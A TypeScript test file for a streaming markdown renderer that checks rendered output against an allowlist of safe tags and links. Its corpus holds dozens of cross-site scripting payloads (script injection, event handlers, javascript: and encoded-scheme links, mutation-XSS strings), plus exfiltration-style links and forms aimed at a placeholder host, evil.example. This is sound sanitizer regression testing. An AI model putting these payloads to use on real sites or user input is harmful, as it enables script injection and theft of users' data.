import { expect, test } from 'vitest'
import { preview } from '../../src/web/markdown/preview.ts'
import { Splitter } from '../../src/web/markdown/splitter.ts'
import { htmlOf } from './markup.ts'

/** Every tag that may come out, with every attribute it may have. Whatever else looks like a tag is a hole. */
const ALLOWED = [
  /^<\/?(?:p|h[3-6]|hr|br|ul|ol|li|blockquote|pre|code|table|thead|tbody|tr|th|td|strong|em|del|div|span)>$/,
  /^<\/?(?:b|i|ins|kbd|mark|s|small|sub|sup|u)>$/,
  /^<h3 class="title">$/,
  /^<ol start="\d+">$/,
  /^<li class="task">$/,
  /^<t[hd] class="to-(?:left|center|right)">$/,
  /^<code class="(?:language-[\w+#.-]+|maths(?: display)?(?: pending)?)">$/,
  /^<div class="formula">$/,
  /^<span class="tick">$/,
  /^<a (?:class="picture" )?href="(?:https?:\/\/[^"<>]*|mailto:[^"<>]*|\/[^"<>]*)"(?: title="[^"<>]*")?>$/,
  /^<a class="picture" href="data:image\/(?:png|jpeg|gif|webp|avif);base64,[\w+/=]+">$/,
  /^<\/a>$/,
]

const CORPUS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<b onmouseover=alert(1)>x</b>',
  '<b style="background:url(https://evil.example)">x</b>',
  '<sub id="app" class="x" onclick="y">x</sub>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form action="https://evil.example"><input name=q><button>Go</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<style>*{background:url(https://evil.example)}</style>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<video src=x onerror=alert(1)></video>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<div><p><table><tr><td></div></td>',
  '</article></div></body><script>alert(1)</script>',
  '<b><i></b></i></p></div></section>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\nscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](&#x6A;&#x61;vascript:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](data:image/svg+xml;base64,PHN2Zz4=)',
  '[x](file:///etc/passwd)',
  '[x](blob:https://a/b)',
  '[x](https://a.b/"onmouseover="alert(1))',
  "[x](https://a.b/'onmouseover='alert(1))",
  '[x](https://a.b "t\\" onmouseover=\\"alert(1)")',
  '[x](<https://a.b/> "a\'b<c>")',
  '[x]: javascript:alert(1)\n\n[x] and [y][x]',
  '![x](javascript:alert(1))',
  '![x"onerror="alert(1)](https://a.b/c.png)',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '![x](data:image/png;base64,iVBORw0KGgo=)',
  '![x](data:image/png;base64,iVBOR"onload="alert(1))',
  '![<img src=x onerror=alert(1)>](https://a.b)',
  '<javascript:alert(1)>',
  '<https://a.b/"onmouseover="x>',
  'https://a.b/<script>alert(1)</script>',
  'www.a.b/"onclick="x',
  '`<script>alert(1)</script>`',
  '```<script>alert(1)</script>\n<script>alert(1)</script>\n```',
  '```"><script>alert(1)</script>\nx\n```',
  '~~~js" onload="alert(1)\nx\n~~~',
  '    <script>alert(1)</script>',
  '$<img src=x onerror=alert(1)>$',
  '$$\n\\href{javascript:alert(1)}{x}<script>\n$$',
  '\\(</code><script>alert(1)</script>\\)',
  '| <script>alert(1)</script> | <b onclick=x>y</b> |\n|:--"x|--|\n| [a](javascript:x) | `<b>` |',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
  '- [ ] <img src=x onerror=alert(1)>\n- [x" onclick="y] z',
  '999999999999. x\n1"onclick="x. y',
  '> <script>\n> alert(1)\n> </script>',
  '# <svg/onload=alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '&amp;lt;img src=x&amp;gt;',
  '<!-- --><script>alert(1)</script><!-- -->',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<b\n<script>alert(1)</script>>x',
  '<sc<script>ript>alert(1)</sc</script>ript>',
  '<<script>script>alert(1)<</script>/script>',
  '<br/onload=alert(1)>',
  '<kbd\u0000onclick=alert(1)>x</kbd>',
  '*<b>*</b>*',
]

/** All that is drawn on the way, and in the end. */
function* everything(text: string): Generator<string> {
  const splitter = new Splitter()
  for (const char of text) {
    for (const unit of splitter.push(char).settled) yield htmlOf(unit)
    for (const unit of preview(splitter)) yield htmlOf(unit)
  }
  const last = splitter.end()
  for (const unit of last.settled) yield htmlOf(unit)
  for (const { unit } of last.changed) yield htmlOf(unit)
  for (const unit of new Splitter().push(`${text}\n\nend`).settled) yield htmlOf(unit)
}

test.each(CORPUS)('nothing but known tags and addresses comes out of %j, whole or half written', (text) => {
  for (const html of everything(text)) {
    for (const tag of html.match(/<[^>]*>?/g) ?? []) {
      expect(ALLOWED.some((allowed) => allowed.test(tag)) ? '' : `${tag} in ${html}`).toBe('')
    }
  }
})

test('every unit is one element with all its tags closed', () => {
  for (const text of CORPUS) {
    for (const html of everything(text)) {
      if (!html) continue
      const open: string[] = []
      let roots = 0
      for (const [, slash, name] of html.matchAll(/<(\/?)(\w+)[^>]*>/g)) {
        if (/^(?:br|hr)$/.test(name!)) {
          if (open.length === 0) roots++
        } else if (slash) expect(open.pop()).toBe(name)
        else if (open.push(name!) === 1) roots++
      }
      expect({ html, open, roots }).toEqual({ html, open: [], roots: 1 })
    }
  }
})

test('an image is never an element that loads', () => {
  const splitter = new Splitter()
  const html = splitter.push(
    '![a](https://evil.example/?q=secret)\n\n![b][r]\n\n[r]: https://evil.example/r\n\nx',
  ).settled
  expect(html.map(htmlOf).join('')).not.toContain('<img')
})
